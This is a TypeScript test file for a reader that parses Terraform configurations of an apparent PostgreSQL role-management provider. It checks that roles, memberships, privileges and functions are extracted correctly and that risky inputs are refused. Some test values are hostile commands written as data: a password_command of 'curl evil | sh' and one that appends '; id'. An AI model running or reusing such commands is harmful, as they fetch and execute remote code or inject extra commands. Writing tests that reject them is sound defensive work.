import { UNKNOWN } from "../../../model/unknown";
import { readStack } from "../../../readers/synthesized/read-stack";
import { type Blocks, bare, filesOf } from "../synthesized/stacks";

const SOURCES = { required_providers: { rolegate: { source: "rolegate/rolegate" } } };
const PROVIDER = { rolegate: [{ host: "orders.db.example.com", port: 5432, username: "tf:admin", database: "x?host=y" }] };

const serverOf = (blocks: Blocks) => {
  const { servers } = readStack(filesOf(JSON.stringify({ terraform: SOURCES, provider: PROVIDER, ...blocks })));
  if (servers.length !== 1 || servers[0] === undefined) throw new Error(`expected one server, found ${servers.length}`);
  return servers[0];
};
const factsOf = (body: unknown, blocks: Blocks = {}) => serverOf({ resource: { rolegate_memberships: { x: body } }, ...blocks }).graph;
const said = (body: unknown, blocks: Blocks = {}) => {
  const { memberships, unknowns, opaques } = factsOf(body, blocks);
  return [
    ...memberships.map(({ member, role, admin, inherit, set }) => `${member} ${role} ${String(admin)} ${String(inherit)} ${String(set)}`),
    ...unknowns.map(({ attribute, expression, role }) => `unknown ${attribute} of ${role}: ${expression}`),
    ...opaques.map(({ what, why }) => `${what}: ${why}`),
  ];
};

describe("a provider configuration of ours", () => {
  test("says server and login, and its database is no part of the address", () => {
    const { host, port, login } = serverOf({ resource: { rolegate_memberships: { x: { members: ["a"], grants: {} } } } });
    expect({ host, port, login }).toEqual({ host: "orders.db.example.com", port: 5432, login: "tf:admin" });
  });

  test("follows a host that is not known to no environment", () => {
    const provider = { rolegate: { host: "${var.host}", port: 5432 } };
    expect(serverOf({ provider, resource: { rolegate_memberships: { x: { members: ["a"], grants: {} } } } }).host).toBe(UNKNOWN);
  });

  test.each([
    ["another argument", { query: "x" }, ["the argument `query` of a provider configuration"]],
    ["one of the community provider", { scheme: "awspostgres" }, ["the argument `scheme` of a provider configuration"]],
    ["a program for the password", { password_command: "curl evil | sh" }, ["the argument `password_command` of a provider configuration"]],
    ["a variable that is one", { password_command: "${var.command}" }, ["the argument `password_command` of a provider configuration"]],
    [
      "a token, and something else",
      { password_command: "aws rds generate-db-auth-token; id" },
      ["the argument `password_command` of a provider configuration"],
    ],
    [
      "a token of somewhere else",
      { password_command: "aws rds generate-db-auth-token --endpoint-url http://x" },
      ["the argument `password_command` of a provider configuration"],
    ],
    ["a cloud's token", { password_command: "aws rds generate-db-auth-token --hostname db --port 5432 --username tf" }, []],
    ["what has nothing to do with the server", { policies: "policies", environment: "prod", lock_timeout: 5 }, []],
  ])("with %s", (_, more, refused) => {
    const provider = { rolegate: { host: "h", port: 1, ...more } };
    const { opaques } = serverOf({ provider, resource: { rolegate_memberships: { x: { members: ["a"], grants: {} } } } }).graph;
    expect(opaques.map(({ what }) => what)).toEqual(refused);
  });

  test("a fork under another name is refused, and read", () => {
    const { servers } = readStack(
      filesOf(
        JSON.stringify({
          terraform: { required_providers: { rolegate: { source: "evil/rolegate" } } },
          provider: PROVIDER,
          resource: { rolegate_memberships: { x: { members: ["a"], grants: { a: { pg_monitor: "default" } } } } },
        }),
      ),
    );
    expect(servers.flatMap(({ graph }) => graph.opaques.map(({ what }) => what))).toEqual(["the provider `evil/rolegate`"]);
    expect(servers.flatMap(({ graph }) => graph.memberships)).toHaveLength(1);
  });

  test("a resource that this version does not know is opaque", () => {
    const { opaques } = serverOf({ resource: { rolegate_script: { x: {} } } }).graph;
    expect(opaques.map(({ what }) => what)).toEqual(["a rolegate_script resource"]);
  });
});

describe("rolegate_memberships", () => {
  test("gives memberships with their options, and owns those of its members", () => {
    const { memberships, membershipScopes, unknowns, opaques } = factsOf({
      members: ["alice", "app"],
      grants: { alice: { pg_monitor: "default", dba: "admin,noinherit,noset" }, app: {} },
    });
    expect(memberships.map(bare)).toEqual([
      { member: "alice", role: "pg_monitor", grantor: null, admin: false, inherit: true, set: true, style: "memberships" },
      { member: "alice", role: "dba", grantor: null, admin: true, inherit: false, set: false, style: "memberships" },
    ]);
    expect(membershipScopes.map(bare)).toEqual([{ of: "members", names: ["alice", "app"] }]);
    expect([...unknowns, ...opaques]).toEqual([]);
  });

  test("may own memberships by role", () => {
    expect(factsOf({ roles: ["dba"], grants: {} }).membershipScopes.map(bare)).toEqual([{ of: "roles", names: ["dba"] }]);
  });

  test.each([
    [
      "a word that is none",
      { members: ["a"], grants: { a: { b: "superuser" } } },
      [/^the membership of `a` in `b` with the options `superuser`: there is no option/],
    ],
    ["another order", { members: ["a"], grants: { a: { b: "noset,admin" } } }, [/write it as "admin,noset"/]],
    ["a number", { members: ["a"], grants: { a: { b: 1 } } }, [/options are one text/]],
    ["an argument that is not known", { members: ["a"], grants: {}, statements: ["x"] }, [/^the argument `statements` of a rolegate_memberships/]],
    ["a list in place of the map", { members: ["a"], grants: ["b"] }, [/^unknown grants of null/]],
    ["no grants", { members: ["a"] }, [/^unknown grants of null: \(not written\)/]],
    ["a variable for all", { members: ["a"], grants: "${var.g}" }, [/^unknown grants of null: \$\{var.g\}/]],
    [
      "a variable for a member",
      { members: ["${var.m}"], grants: { "${var.m}": { b: "default" } } },
      [/^unknown members/, /^unknown grants of null: \$\{var.m\}/],
    ],
    ["a variable for a role", { members: ["a"], grants: { a: { "${var.r}": "default" } } }, [/^unknown grants of a: \$\{var.r\}/]],
    ["a variable for options", { members: ["a"], grants: { a: { b: "${var.o}" } } }, [/^unknown grants of a: \$\{var.o\}/]],
    ["a function for a member's roles", { members: ["a"], grants: { a: "${f(1)}" } }, [/^unknown grants of null/]],
    ["for_each", { members: ["a"], grants: {}, for_each: "${var.x}" }, [/^unknown for_each/]],
    ["grants that Terraform ignores", { members: ["a"], grants: {}, lifecycle: { ignore_changes: ["grants"] } }, [/^unknown grants/]],
    ["all ignored", { members: ["a"], grants: {}, lifecycle: { ignore_changes: "all" } }, [/^unknown lifecycle.ignore_changes/]],
  ])("with %s is refused", (_, body, expected) => {
    const lines = said(body);
    expect(lines).toEqual(expected.map((pattern) => expect.stringMatching(pattern)));
  });

  test("names by reference are those of what they refer to", () => {
    const locals = { locals: { ops: "ops_team" } };
    expect(said({ members: ["${local.ops}"], grants: { "${local.ops}": { pg_monitor: "default" } } }, locals)).toEqual(["ops_team pg_monitor false true true"]);
  });

  test("what another grantor gave counts as what it is", () => {
    expect(said({ members: ["a"], grants: { a: { b: "admin, granted by bob and joe" } } })).toEqual(["a b true true true"]);
  });
});

const graphOf = (type: string, body: unknown, blocks: Blocks = {}) => serverOf({ resource: { [type]: { x: body } }, ...blocks }).graph;
const refusedIn = ({ unknowns, opaques }: ReturnType<typeof graphOf>) => [
  ...unknowns.map(({ attribute }) => `unknown ${attribute}`),
  ...opaques.map(({ what }) => what),
];

describe("rolegate_membership", () => {
  test("is one membership, by default with what a plain GRANT gives", () => {
    expect(graphOf("rolegate_membership", { member: "a", role: "b" }).memberships.map(bare)).toEqual([
      { member: "a", role: "b", grantor: null, admin: false, inherit: true, set: true, style: "membership" },
    ]);
    expect(graphOf("rolegate_membership", { member: "a", role: "b", options: "noset" }).memberships[0]).toMatchObject({ inherit: true, set: false });
  });

  test("whose names or options cannot be read is refused", () => {
    expect(refusedIn(graphOf("rolegate_membership", { member: "${var.x}", role: "b" }))).toEqual(["unknown member"]);
    expect(refusedIn(graphOf("rolegate_membership", { member: "a", role: "b", options: "all" }))).toEqual([expect.stringContaining("the options `all`")]);
  });
});

describe("rolegate_role", () => {
  test("has attributes and settings, and says nothing of memberships", () => {
    const { roles, settings, unknowns, opaques } = graphOf("rolegate_role", {
      name: "a",
      login: true,
      create_role: true,
      valid_until: "2027-01-31T00:00:00Z",
      settings: { role: "b" },
      database_settings: { shop: { statement_timeout: "1s" } },
    });
    expect(roles.map(bare)).toEqual([
      {
        name: "a",
        source: "managed",
        login: true,
        inherit: true,
        superuser: false,
        createrole: true,
        createdb: false,
        replication: false,
        bypassrls: false,
        connectionLimit: -1,
        validUntil: "2027-01-31T00:00:00Z",
      },
    ]);
    expect(settings.map(bare)).toEqual([
      { role: "a", name: "role", value: "b" },
      { role: "a", database: "shop", name: "statement_timeout", value: "1s" },
    ]);
    expect([...unknowns, ...opaques]).toEqual([]);
  });

  test("an ephemeral password is fine, a written one is a secret", () => {
    const variable = { variable: { p: { ephemeral: true } } };
    expect(graphOf("rolegate_role", { name: "a", password_wo: "${var.p}", password_wo_version: "1" }, variable).secrets).toEqual([]);
    expect(graphOf("rolegate_role", { name: "a", password_wo: "hunter2", password_wo_version: "1" }).secrets).toHaveLength(1);
  });

  test("an attribute that cannot be known is UNKNOWN", () => {
    expect(graphOf("rolegate_role", { name: "a", superuser: "${var.s}" }).roles[0]?.superuser).toBe(UNKNOWN);
    expect(refusedIn(graphOf("rolegate_role", { name: "a", settings: "${var.s}" }))).toEqual(["unknown settings"]);
  });
});

describe("rolegate_privileges", () => {
  const privileges = (body: object) => graphOf("rolegate_privileges", { role: "a", ...body });

  test("gives what it lists, in the provider's database where it names none", () => {
    const graph = privileges({
      databases: { shop: "CONNECT" },
      schemas: { sales: "CREATE,USAGE" },
      tables: { sales: { "*": "SELECT", orders: "INSERT WITH GRANT OPTION", secret: "NONE" } },
      functions: { sales: { "total(integer)": "EXECUTE" } },
      parameters: { work_mem: "SET" },
      default_privileges: { migrator: { "tables in sales": "SELECT" } },
    });
    expect(
      graph.grants.map(({ privilege, objectType, database, schema, object, grantable }) => [privilege, objectType, database, schema, object, grantable]),
    ).toEqual([
      ["CONNECT", "database", "shop", null, "shop", false],
      ["CREATE", "schema", "x?host=y", "sales", "sales", false],
      ["USAGE", "schema", "x?host=y", "sales", "sales", false],
      ["SELECT", "table", "x?host=y", "sales", null, false],
      ["INSERT", "table", "x?host=y", "sales", "orders", true],
      ["EXECUTE", "routine", "x?host=y", "sales", "total", false],
      ["SET", "parameter", null, null, "work_mem", false],
    ]);
    expect(graph.withheld.map(({ object }) => object)).toEqual(["secret"]);
    expect(graph.defaultPrivileges.map(bare)).toEqual([
      { grantee: "a", owner: "migrator", objectType: "table", database: "x?host=y", schema: "sales", privilege: "SELECT", grantable: false },
    ]);
    expect(refusedIn(graph)).toEqual([]);
  });

  test.each([
    ["words that are none", { tables: { s: { t: "ALL" } } }, ["`tables of t` given as `ALL`"]],
    ["every other parameter", { parameters: { "*": "SET" } }, ["privileges on every other parameter"]],
    ["a variable", { tables: { s: { t: "${var.p}" } } }, ["unknown tables"]],
    ["a target that is none", { default_privileges: { m: { views: "SELECT" } } }, ["the default privileges of `m` on `views`"]],
    ["an attribute that is not known", { languages: {} }, ["the argument `languages` of a rolegate_privileges"]],
  ])("with %s is refused", (_, body, expected) => {
    expect(refusedIn(privileges(body))).toEqual(expected);
  });

  test("what a server shows of columns and other grantors counts as well", () => {
    const { grants } = privileges({ tables: { s: { t: "SELECT; INSERT on column c granted by bob; DELETE granted by joe" } } });
    expect(grants.map(({ privilege }) => privilege)).toEqual(["SELECT", "INSERT", "DELETE"]);
    expect(refusedIn(privileges({ tables: { s: { t: "SELECT; whatever" } } }))).toHaveLength(1);
  });
});

describe("rolegate_function", () => {
  const FUNCTION = {
    name: "cancel",
    schema: "ops",
    arguments: "pid integer, reason text",
    returns: "boolean",
    language: "plpgsql",
    body: "BEGIN END",
    security_definer: true,
    settings: { search_path: "pg_catalog, pg_temp" },
    owner: "signaller",
    executors: ["alice", "public"],
  };

  test("has its owner, its digest and whoever may run it, and PUBLIC only where it is listed", () => {
    const { functions, grants, unknowns, opaques } = graphOf("rolegate_function", FUNCTION);
    expect(functions).toMatchObject([
      { name: "cancel", schema: "ops", arguments: "integer, text", owner: "signaller", publicByDefault: false, searchPath: "pg_catalog, pg_temp" },
    ]);
    expect(functions[0]?.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(grants.map(({ grantee, object, arguments: types }) => [grantee, object, types])).toEqual([
      ["alice", "cancel", "integer, text"],
      ["PUBLIC", "cancel", "integer, text"],
    ]);
    expect([...unknowns, ...opaques]).toEqual([]);
  });

  test("of what cannot be known no digest is made", () => {
    expect(graphOf("rolegate_function", { ...FUNCTION, body: "${var.b}" }).functions[0]?.sha256).toBeNull();
    expect(refusedIn(graphOf("rolegate_function", { ...FUNCTION, executors: undefined }))).toEqual(["unknown executors"]);
  });
});
